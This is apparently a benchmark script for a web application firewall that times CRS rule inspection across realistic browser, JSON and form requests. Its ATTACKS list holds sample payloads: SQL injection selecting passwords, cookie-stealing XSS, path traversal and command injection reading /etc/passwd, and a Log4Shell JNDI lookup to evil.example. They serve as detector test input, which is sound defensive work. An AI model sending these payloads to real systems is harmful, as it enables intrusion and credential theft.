// What one inspection costs, by kind of request and rule set: node bench/inspect.ts [--json]
// Processor time of the thread is counted, so that other load on the machine shows less.
//
// Every request differs from the one before (ids, tokens, search words), as on real sites; headers
// that browsers repeat, repeat. `plain` is the evaluation without prefilter and sharing.
import { readFlags } from './support/read-flags.ts';
import {
  beginInspection,
  compileProgram,
  type InspectionOptions,
  type Program,
  type ResponseView,
  type Transaction,
} from '../src/inspect/index.ts';
import { loadRules } from '../src/seclang/index.ts';
import { crsTexts, makeTransaction } from '../test/support/rules.ts';

const flags = readFlags(
  {
    json: { type: 'boolean', default: false },
    only: { type: 'string', default: '' },
    seconds: { type: 'string', default: '1' },
    paranoia: { type: 'string', default: '1,2' },
    plain: { type: 'boolean', default: true },
  },
  { allowNegative: true },
);

const BROWSER_HEADERS: readonly string[] = pairs({
  Host: 'shop.example.com',
  Connection: 'keep-alive',
  'sec-ch-ua': '"Chromium";v="140", "Not=A?Brand";v="24", "Google Chrome";v="140"',
  'sec-ch-ua-mobile': '?0',
  'sec-ch-ua-platform': '"Windows"',
  'Upgrade-Insecure-Requests': '1',
  'User-Agent':
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  Accept:
    'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8',
  'Sec-Fetch-Site': 'same-origin',
  'Sec-Fetch-Mode': 'navigate',
  'Sec-Fetch-User': '?1',
  'Sec-Fetch-Dest': 'document',
  'Accept-Encoding': 'gzip, deflate, br, zstd',
  'Accept-Language': 'en-US,en;q=0.9,de;q=0.8',
});

const WORDS = [
  'walnut',
  'desk',
  'lamp',
  'green',
  'chair',
  'oak',
  'shelf',
  'small',
  'round',
  'kitchen',
];
const ATTACKS = [
  '/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--',
  '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  '/download?file=../../../../etc/passwd',
  '/ping?host=127.0.0.1;cat%20/etc/passwd',
  '/page?name={{7*7}}&x=${jndi:ldap://evil.example/a}',
];

interface Case {
  readonly name: string;
  /** The nth request. */
  readonly make: (n: number) => { readonly transaction: Transaction; readonly body?: Buffer };
}

const RESPONSE: ResponseView = {
  protocol: 'HTTP/1.1',
  status: 200,
  statusText: 'OK',
  rawHeaders: ['Content-Type', 'image/png', 'Content-Length', '5120', 'Server', 'nginx'],
};

const CASES: readonly Case[] = [
  // Every request from someone new, and from one of a few who stay a while.
  { name: 'GET, new visitor', make: (n) => ({ transaction: browserGet(n, n) }) },
  { name: 'GET, known visitor', make: (n) => ({ transaction: browserGet(n, n % 50) }) },
  { name: 'GET, same again', make: () => ({ transaction: browserGet(1, 1) }) },
  { name: 'GET of a script', make: (n) => ({ transaction: bareGet(n) }) },
  { name: 'JSON POST of 2 KB', make: jsonPost },
  { name: 'form of 20 fields', make: (n) => formPost(n, 20) },
  { name: '950 arguments', make: (n) => formPost(n, 950) },
  { name: 'attack mix', make: (n) => ({ transaction: attack(n) }) },
];

const OPTIONS: InspectionOptions = { mode: 'detect', onFault: 'allow', budgetMs: 10_000 };

interface Row {
  readonly rules: string;
  readonly request: string;
  /** Time of a request in the fastest batch: what it costs where nothing else runs. */
  readonly best: number;
  /** Processor time of a request over all batches: what it cost here. */
  readonly mean: number;
  readonly fired: number;
}

const BATCH_SIZE = 64;

const rows: Row[] = [];
for (const paranoia of flags.paranoia.split(',').map(Number)) {
  for (const plain of flags.plain ? [false, true] : [false]) {
    const begun = performance.now();
    const source = loadRules(crsTexts({ paranoia: paranoia as 1 | 2 | 3 | 4 }));
    const loaded = performance.now();
    const program = compileProgram(source, { plain });
    const label = `CRS PL${paranoia}${plain ? ' plain' : ''}`;
    if (!flags.json) {
      const milliseconds = `${(loaded - begun).toFixed(0)} + ${(performance.now() - loaded).toFixed(0)} ms`;
      console.log(`${label}: loaded and compiled in ${milliseconds}`);
      if (!plain) console.log(JSON.stringify(program.counts));
    }
    for (const { name, make } of CASES) {
      if (name.includes(flags.only)) rows.push(measure(label, program, name, make));
    }
  }
}
if (flags.json) console.log(JSON.stringify(rows, undefined, 2));

function measure(rules: string, program: Program, request: string, make: Case['make']): Row {
  const budgetMs = Number(flags.seconds) * 1000;
  let n = 0;
  // What is compiled lazily, and V8's tiers, are not what is measured.
  const warmUntil = performance.now() + budgetMs / 2;
  while (performance.now() < warmUntil) runOne(program, make(n++));
  let best = Infinity;
  let fired = 0;
  let requests = 0;
  let processorMicroseconds = 0;
  const until = performance.now() + budgetMs;
  while (performance.now() < until) {
    const batch = Array.from({ length: BATCH_SIZE }, () => make(n++));
    const used = process.threadCpuUsage();
    const begun = performance.now();
    for (const each of batch) fired = Math.max(fired, runOne(program, each));
    best = Math.min(best, ((performance.now() - begun) * 1000) / BATCH_SIZE);
    const { user, system } = process.threadCpuUsage(used);
    processorMicroseconds += user + system;
    requests += BATCH_SIZE;
  }
  const row: Row = { rules, request, best, mean: processorMicroseconds / requests, fired };
  if (!flags.json) {
    const [shownBest, mean] = [row.best, row.mean].map((us) => us.toFixed(1).padStart(9));
    console.log(
      `${rules.padEnd(14)} ${request.padEnd(24)} best ${shownBest} us  mean ${mean} us  matches ${fired}`,
    );
  }
  return row;
}

function runOne(
  program: Program,
  { transaction, body }: { readonly transaction: Transaction; readonly body?: Buffer },
): number {
  const inspection = beginInspection(program, transaction, OPTIONS);
  inspection.inspectRequestHeaders();
  if (body !== undefined) inspection.appendRequestBody(body);
  inspection.inspectRequestBody();
  inspection.inspectResponseHeaders(RESPONSE);
  inspection.inspectResponseBody();
  return inspection.finish().matches.length;
}

/** The nth page view, of that visitor. */
function browserGet(n: number, visitor: number): Transaction {
  const word = WORDS[n % WORDS.length]!;
  return makeTransaction({
    target: fresh(
      `/products/${word}-${n % 5000}?page=${n % 9}&sort=price&q=${word}+${WORDS[(n >> 3) % 10]!}`,
    ),
    rawHeaders: [
      ...BROWSER_HEADERS,
      'Referer',
      fresh(`https://shop.example.com/category/${word}?page=${n % 7}`),
      'Cookie',
      fresh(
        `session=${hex(visitor)}${hex(visitor + 1)}; _ga=GA1.2.${100_000_000 + visitor}.1750000000; theme=dark; cart=${visitor % 13}`,
      ),
    ].map(fresh),
  });
}

/** A string as a parser makes it: flat, and new. */
function fresh(text: string): string {
  return Buffer.from(text, 'latin1').toString('latin1');
}

function pairs(headers: Readonly<Record<string, string>>): readonly string[] {
  return Object.entries(headers).flat();
}

function bareGet(n: number): Transaction {
  return makeTransaction({
    target: `/items/${n}`,
    rawHeaders: ['Host', 'shop.example.com', 'User-Agent', 'curl/8.5.0', 'Accept', '*/*'],
  });
}

function attack(n: number): Transaction {
  return makeTransaction({ target: ATTACKS[n % ATTACKS.length]!, rawHeaders: BROWSER_HEADERS });
}

function jsonPost(n: number): { transaction: Transaction; body: Buffer } {
  const lines = Array.from({ length: 20 }, (_, line) => ({
    sku: `SKU-${n}-${line}`,
    title: `${WORDS[line % 10]!} ${WORDS[(line + n) % 10]!}`,
    quantity: line,
    price: 19.9 + line,
  }));
  const body = Buffer.from(
    JSON.stringify({
      order: n,
      customer: { name: 'Ada Lovelace', email: `a${n}@example.com` },
      lines,
    }),
  );
  return { transaction: post(n, 'application/json', body.length), body };
}

function formPost(n: number, fields: number): { transaction: Transaction; body: Buffer } {
  const pairs = Array.from(
    { length: fields },
    (_, field) => `field${field}=${WORDS[field % 10]!}+${WORDS[(field + n) % 10]!}+${n + field}`,
  );
  const body = Buffer.from(pairs.join('&'));
  return { transaction: post(n, 'application/x-www-form-urlencoded', body.length), body };
}

function post(n: number, type: string, length: number): Transaction {
  return makeTransaction({
    method: 'POST',
    target: `/api/orders/${n}`,
    rawHeaders: [...BROWSER_HEADERS, 'Content-Type', type, 'Content-Length', String(length)],
  });
}

function hex(n: number): string {
  return ((n * 2_654_435_761) >>> 0).toString(16).padStart(8, '0');
}
